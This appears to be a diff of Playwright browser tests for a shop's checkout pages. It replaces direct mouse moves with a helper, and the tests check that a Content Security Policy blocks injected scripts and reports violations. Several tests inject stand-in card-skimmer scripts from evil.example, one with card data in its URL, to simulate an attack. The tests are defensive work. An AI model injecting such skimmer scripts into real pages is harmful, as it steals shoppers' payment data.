@@ -6,6 +6,7 @@ import { stubExternalServices } from '../helpers/browser/external-services.ts';
 import { continueToPayment, fillAddress, getHostedCheckoutUrl } from '../helpers/browser/hosted-checkout-page.ts';
 import { getLocalPage } from '../helpers/browser/local-page.ts';
 import { enterMembersStore } from '../helpers/browser/members.ts';
+import { moveMouse } from '../helpers/browser/move-mouse.ts';
 import { PAGE_STATES } from '../helpers/browser/page-states.ts';
 
 /** Adds a script of another site to the page, as injected code would. The policy blocks it. */
@@ -31,7 +32,7 @@ test('PROOF-6 violations of the policy, also those before the first interaction,
   await page.goto('/checkout/express?token=s3cret9', { waitUntil: 'networkidle' });
   await addScript(page, 'https://evil.example/early-skimmer.js?card=4242');
   expect(sent).toEqual([]);
-  await page.mouse.move(200, 200);
+  await moveMouse(page);
   await expect.poll(() => sent.length).toBe(1);
   await addScript(page, 'https://evil.example/late-skimmer.js');
   await expect.poll(() => sent.length).toBe(2);
@@ -50,7 +51,7 @@ test('PROOF-6 a page reports each violation once, and a few at most', async ({ p
   await stubExternalServices(page.context());
   const sent = watchReports(page);
   await page.goto('/about', { waitUntil: 'networkidle' });
-  await page.mouse.move(200, 200);
+  await moveMouse(page);
   await page.waitForLoadState('networkidle');
   for (const name of ['a', 'a', 'b', 'c', 'd', 'e']) await addScript(page, `https://evil.example/${name}.js?${name}`);
   await expect.poll(() => sent.length).toBe(POLICY_VIOLATIONS_MAX);
@@ -62,7 +63,7 @@ test('PROOF-6 a page reports each violation once, and a few at most', async ({ p
 test('PROOF-6 a store without error reporting sends nothing', async ({ page }) => {
   const sent = watchReports(page);
   await page.goto(`${shopUrl('moth-kiosk')}/about`, { waitUntil: 'networkidle' });
-  await page.mouse.move(200, 200);
+  await moveMouse(page);
   await addScript(page, 'https://evil.example/skimmer.js');
   await page.waitForLoadState('networkidle');
   expect(sent).toEqual([]);
@@ -107,7 +108,7 @@ async function visit(page: Page, url: string): Promise<string[]> {
     (message) => message.text().includes('Content Security Policy') && violations.push(message.text()),
   );
   await page.goto(url);
-  await page.mouse.move(200, 200);
+  await moveMouse(page);
   await page.waitForLoadState('networkidle');
   expect(violations, url).toEqual([]);
   await addScript(page, 'https://evil.example/skimmer.js');
